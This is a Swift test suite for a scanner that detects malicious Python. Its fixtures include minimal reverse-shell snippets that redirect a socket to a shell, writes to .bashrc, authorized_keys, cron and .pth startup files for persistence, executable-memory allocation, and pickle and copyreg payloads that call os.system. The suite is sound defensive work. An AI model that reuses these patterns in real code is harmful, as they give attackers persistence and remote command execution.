import AssayCore
import ByteParsing
import Fixtures
import Testing

@testable import Scanning

/// Python sources that stay on a machine, let somebody in, or run what no import shows.
@Suite struct PythonPersistenceTests {
    private func scan(_ source: String, named name: String = "modeling_x.py") -> FileReport {
        FileScanner(analysers: [PythonAnalyser()]).scan(ByteRegion(Array(source.utf8)), path: name)
    }

    private func severity(_ rule: String, _ source: String) -> Severity {
        scan(source).findings.filter { $0.rule == rule }.map(\.severity).max() ?? .none
    }

    /// Ways to write to P, in which a file that starts programs and one of data are put.
    @Test(arguments: [
        "from pathlib import Path\n(Path.home() / 'P').open('a').write('x')",
        "from pathlib import Path\nPath('~', 'P').expanduser().write_text('x')",
        "import pathlib\ndef f():\n  p = pathlib.Path('~/a') / 'b'\n  p.parent.parent.joinpath('P').write_bytes(b'x')",
        "from pathlib import Path\nPath('~/x').with_name('P').touch()",
        "from pathlib import Path\nPath('x').rename('P')",
        "from pathlib import Path\n('~' / Path('P')).symlink_to('x')",
        "import os\nopen(os.path.join(os.environ['HOME'], 'P'), 'a').write('x')",
        "import os\nopen(os.environ['HOME'] + os.sep + 'P', mode='w')",
        "import os\nopen(f\"{os.getenv('HOME')}/{'P'}\", 'w')", "h = '~'\nopen(f'{h}/P', 'w')",
        "import os\nos.open('P', os.O_WRONLY | os.O_APPEND)", "import shutil\nshutil.copy('x', 'P')",
        "import os\ndef f():\n  os.replace('x', dst='P')",
    ])
    func aFileThatStartsProgramsIsNotWritten(_ form: String) {
        for target in [".bashrc", ".ssh/authorized_keys", ".zshenv", ".config/autostart/a.desktop", "/etc/cron.d/a"] {
            let source = form.replacing("P'", with: target + "'")
            #expect(severity("PYTHON-FILE-CHANGE", source) == .high, "\(source)")
        }
        let source = form.replacing("P'", with: "out/a.json'")
        #expect(severity("PYTHON-FILE-CHANGE", source) < .high, "\(source)")
    }

    @Test(arguments: [
        ("import site, os\nopen(os.path.join(site.getsitepackages()[0], 'x.pth'), 'w')", Severity.high),
        ("import site\nfor p in site.getsitepackages():\n  open(p + '/x.pth', 'w')", .high),
        ("import site\nopen(site.USER_SITE + '/x.pth', 'w')", .high),
        ("import sysconfig\nopen(sysconfig.get_paths()['purelib'] + '/x.pth', 'w')", .high),
        (
            "import sysconfig\nfrom pathlib import Path\nPath(sysconfig.get_path('platlib'), 'x.pth').write_text('x')",
            .high
        ),
        (
            "import os\nopen(os.path.join(os.path.dirname(os.__file__), 'site-packages', 'x.pth'), 'w')", .high
        ),
        // Weights are called so too.
        ("import os\ndef f(d):\n  open(os.path.join(d, 'x.pth'), 'wb').write(weights)", .none),
        ("import site\ndef f():\n  open(site.getsitepackages()[0] + '/m/x.pth', 'wb')", .none),
        ("def f(d):\n  open(d, 'w').write('import os')", .none),
        ("import os\ndef f(d):\n  open(os.path.join(d, 'x.pth'), 'w').write('import os')", .high),
        ("from pathlib import Path\ndef f(d):\n  Path(d, 'x.pth').write_text('x\\nimport os')", .high),
        ("import os\ndef f():\n  open(os.path.expanduser('~/.bashrc')).read()", .none),
        ("from pathlib import Path\ndef f():\n  (Path.home() / '.bashrc').open().read()", .none),
    ])
    func linesThatPythonRunsWhenItStartsAreFound(_ source: String, _ expected: Severity) {
        #expect(severity("PYTHON-FILE-CHANGE", source) == expected, "\(source)")
    }

    @Test(arguments: [
        ("import mmap\nb = mmap.mmap(-1, 4096, prot=7)", Severity.high),
        ("import mmap as m\nb = m.mmap(-1, 9, m.MAP_PRIVATE, m.PROT_READ | m.PROT_WRITE | m.PROT_EXEC)", .high),
        ("import mmap\nb = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE)", .none),
        ("import mmap\nb = mmap.mmap(f.fileno(), 0, access=mmap.ACCESS_READ)", .none),
        ("def f(libc, p):\n  libc.mprotect(p, 4096, 7)", .medium),
        ("def f(libc, p):\n  libc.mprotect(p, 4096, 1)", .none),
        ("import ctypes\nk = ctypes.windll.kernel32\nk.VirtualAlloc(None, 9, 0x3000, ctypes.c_int(0x40))", .high),
    ])
    func memoryThatCodeIsWrittenToIsFound(_ source: String, _ expected: Severity) {
        let found = scan(source).findings.filter { $0.message.contains("Asks for memory") }
        #expect(found.map(\.severity).max() ?? .none == expected, "\(source)")
    }

    /// Whoever listens at the other end of a connection types commands.
    @Test(arguments: [
        "import socket, os, pty\ns = socket.socket()\ns.connect(('a', 1))\n[os.dup2(s.fileno(), i) for i in (0, 1, 2)]",
        "import socket, subprocess\ns = socket.create_connection(('a', 1))\nsubprocess.call(['x'], stdin=s, stdout=s)",
        "import socket as k, os\ns = k.socket()\nc, a = s.accept()\nos.dup2(c.fileno(), 0)",
        "from socket import socket\nimport subprocess\ndef f():\n  s = socket()\n  subprocess.Popen('x', stdin=s.makefile())",
    ])
    func aShellForSomebodyElseIsFound(_ source: String) throws {
        #expect(scan(source).severity >= .high, "\(source)")
        let notebook = Scan()
        PythonSourceJudge.judge(
            ByteRegion(Array(source.utf8)), named: "", at: Location(), in: notebook, isInteractive: true)
        #expect(notebook.findings.map(\.severity).max() ?? .none >= .high, "\(source)")
    }

    @Test(arguments: [
        "import os, sys\nos.dup2(sys.stderr.fileno(), 1)", "import os\nfd = os.open('log', 1)\nos.dup2(fd, 1)",
        "import socket\ns = socket.socket()\ns.bind(('localhost', 0))\nport = s.getsockname()[1]",
    ])
    func streamsOfOnesOwnAreNoShell(_ source: String) {
        #expect(!scan(source).findings.contains { $0.message.contains("type commands") }, "\(source)")
    }

    @Test(arguments: [
        ("import copyreg, os\ncopyreg.pickle(int, lambda x: (os.system, ('id',)))", Severity.critical),
        ("import copyreg, os\ndef r(x):\n  return os.system, ('id',)\ncopyreg.pickle(int, r)", .medium),
        ("import copyreg, os\ncopyreg.dispatch_table[int] = lambda x: (os.system, ('id',))", .critical),
        (
            "import pickle, os\nclass P(pickle.Pickler):\n  def reducer_override(self, x):\n    return os.system, ('id',)",
            .medium
        ),
        ("import copyreg\ndef r(x):\n  return type(x), (x.a,)\ncopyreg.pickle(C, r)", .none),
        ("get_ipython().system('id')", .medium), ("get_ipython().system('pip install torch')", .none),
        ("import psutil\npsutil.Popen(['id'])", .critical), ("import psutil\nn = psutil.cpu_count()", .none),
        // A text that is put together is read like one that stands there.
        ("x = 'os'\nexec(f'import {x}; {x}.system(1)')", .critical),
        ("n = 1\nexec(f'import os\\nos.system({n!r})')", .critical),
        ("exec(f\"{'import os'}{';' 'os.system(1)'}\")", .critical), ("a = 'x'\nprint(f'{a} = {a!r:>10}')", .none),
    ])
    func whatIsRegisteredOrPutTogetherIsFollowed(_ source: String, _ expected: Severity) {
        #expect(scan(source).severity == expected, "\(source)")
    }

    @Test(arguments: [
        ("import pickle\npickle.loads(b'cos\\nsystem\\n(Vid\\ntR.')", Severity.critical),
        ("import pickle\ndef f():\n  pickle.loads(b'\\x80\\x02cos\\nsystem\\nX\\x02\\0\\0\\0id\\x85R.')", .critical),
        ("import pickle\nx = pickle.loads(b'(lp0\\nI1\\na.')", .medium),
    ])
    func aPickleInTheSourceIsJudged(_ source: String, _ expected: Severity) {
        #expect(scan(source).severity == expected, "\(source)")
    }
}
